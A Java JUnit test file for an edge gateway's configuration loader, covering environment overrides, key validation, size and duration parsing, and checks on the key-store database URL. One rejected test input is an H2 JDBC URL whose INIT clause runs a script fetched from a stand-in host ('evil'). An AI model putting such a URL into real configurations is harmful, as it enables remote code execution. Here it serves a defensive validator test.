package org.edgegateway.core.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;

class SettingsTest {
    @Test
    void environmentOverridesTheFileAndNamesItsSource() {
        Properties file = new Properties();
        file.setProperty("gateway.endpoint", "tcp://*:6000");
        file.setProperty("handlers.timeout", "3s");
        Settings s = Settings.load(Settings.CORE, file, Map.of("EGW_GATEWAY_ENDPOINT", "tcp://127.0.0.1:7000"));
        assertThat(s.get(Settings.ENDPOINT)).isEqualTo("tcp://127.0.0.1:7000");
        assertThat(s.source(Settings.ENDPOINT)).isEqualTo("EGW_GATEWAY_ENDPOINT");
        assertThat(s.get(Settings.HANDLER_TIMEOUT)).isEqualTo(Duration.ofSeconds(3));
        assertThat(s.source(Settings.HANDLER_TIMEOUT)).isEqualTo("gateway.properties");
        assertThat(s.get(Settings.MAX_MESSAGE_SIZE)).isEqualTo(1024 * 1024);
    }

    @Test
    void unknownKeysAndBadValuesNameTheKey() {
        Properties typo = new Properties();
        typo.setProperty("gateway.endpiont", "tcp://*:5555");
        assertThatThrownBy(() -> Settings.load(Settings.CORE, typo, Map.of()))
                .isInstanceOf(ConfigException.class).hasMessageContaining("gateway.endpiont");
        assertThatThrownBy(() -> Settings.load(Settings.CORE, new Properties(), Map.of("EGW_GATEWAY_ENDPIONT", "x")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("EGW_GATEWAY_ENDPIONT");
        assertThatThrownBy(() -> Settings.load(Settings.CORE, new Properties(), Map.of("EGW_HANDLERS_WORKERS", "0")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("handlers.workers").hasMessageContaining("0");
        assertThatThrownBy(() -> Settings.load(Settings.CORE, new Properties(), Map.of("EGW_GATEWAY_MAX_MESSAGE_SIZE", "big")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("gateway.max-message-size");
    }

    @Test
    void theLaunchersOwnVariableIsNotAConfigurationKey() {
        Settings s = Settings.load(Settings.CORE, new Properties(), Map.of("EGW_JAVA_OPTS", "-Xmx1g"));
        assertThat(s.get(Settings.ENDPOINT)).isEqualTo("tcp://*:5555");
    }

    @Test
    void sizesAndDurationsParse() {
        assertThat(Settings.bytes("64KiB")).isEqualTo(65536);
        assertThat(Settings.bytes("2MB")).isEqualTo(2 * 1024 * 1024);
        assertThat(Settings.duration("500ms")).isEqualTo(Duration.ofMillis(500));
        assertThat(Settings.duration("PT2M")).isEqualTo(Duration.ofMinutes(2));
        assertThatThrownBy(() -> Settings.duration("-5s")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> Settings.bytes("0")).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void storeUrlAcceptsOnlyAnEmbeddedH2File() {
        for (String bad : new String[] {"jdbc:h2:file:/var/lib/egw/data/keystore;AUTO_SERVER=1",
                "jdbc:h2:file:/var/lib/egw/data/keystore;AUTO_SERVER=ON", "jdbc:h2:tcp://10.0.0.1/keystore",
                "jdbc:h2:file:/var/lib/egw/data/keystore;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:keystore"}) {
            Properties file = new Properties();
            file.setProperty("store.url", bad);
            assertThatThrownBy(() -> Settings.load(Settings.CORE, file, Map.of())).as(bad)
                    .isInstanceOf(ConfigException.class)
                    .hasMessageContaining("bad value for store.url (from gateway.properties)")
                    .hasMessageNotContaining("RUNSCRIPT");
        }
        assertThatThrownBy(() -> Settings.load(Settings.CORE, new Properties(),
                Map.of("EGW_STORE_URL", "jdbc:h2:file:/srv/keystore;INIT=SELECT 1")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("EGW_STORE_URL")
                .hasMessageContaining("setting 'INIT' is not allowed");
        Properties ok = new Properties();
        ok.setProperty("store.url", "jdbc:h2:file:/srv/egw/keystore;LOCK_TIMEOUT=20000");
        assertThat(Settings.load(Settings.CORE, ok, Map.of()).get(Settings.STORE_URL))
                .isEqualTo("jdbc:h2:file:/srv/egw/keystore;LOCK_TIMEOUT=20000");
        assertThat(Settings.load(Settings.CORE, new Properties(), Map.of()).get(Settings.STORE_URL)).isEmpty();
    }
}
